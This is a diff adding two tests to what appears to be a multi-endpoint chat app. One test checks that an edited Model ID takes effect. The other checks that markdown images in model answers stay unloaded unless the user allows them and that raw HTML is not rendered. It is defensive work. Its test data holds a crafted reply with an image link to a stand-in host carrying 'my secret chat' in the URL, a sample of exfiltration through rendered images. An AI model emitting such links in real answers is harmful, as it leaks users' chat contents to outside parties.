@@ -266,3 +266,35 @@ def test_long_histories_show_recent_turns_and_unfold_on_request(
     at.button(key=key(first, "fold")).click().run()
     assert len(at.chat_message) == 12
     assert_cards_drawn(at)
+
+
+def test_prompt_sent_with_an_edit_uses_the_edited_fields(
+    write_config: Config, scenario: MakeScenario
+) -> None:
+    """Typing a Model ID and sending in the same interaction uses the new Model ID."""
+    url = scenario()
+    write_config("")
+    at = new_app()
+    first = cards(at)[0]
+    at.text_input(key=key(first, "base_url")).set_value(url)
+    at.text_input(key=key(first, "model_id")).set_value("fake-large")
+    at.chat_input(key=key(first, "input")).set_value("together").run()
+    assert cards(at)[0].messages[-1].content == "[fake-large] turn 1: together"
+
+
+def test_images_in_answers_are_not_loaded_unless_allowed(
+    write_config: Config, scenario: MakeScenario
+) -> None:
+    crafted = "Look: ![chart](http://exfil.invalid/?q=my+secret+chat) and <b>bold</b>"
+    write_config(endpoints_toml(Alpha=scenario(reply=crafted)))
+    at = new_app()
+    first = cards(at)[0]
+    send_to_card(at, first, "show me")
+    answer = [m for m in at.chat_message if m.name == "assistant"][0].markdown[0].value
+    assert "![" not in answer.replace("\\![", "")
+    assert "(image not loaded)](http://exfil.invalid/?q=my+secret+chat)" in answer
+    assert cards(at)[0].messages[-1].content == crafted  # the history keeps the original
+    assert at.markdown[0].proto.allow_html is False  # raw HTML is never rendered
+    at.button(key=key(first, "images")).click().run()
+    answer = [m for m in at.chat_message if m.name == "assistant"][0].markdown[0].value
+    assert "![chart](http://exfil.invalid/?q=my+secret+chat)" in answer
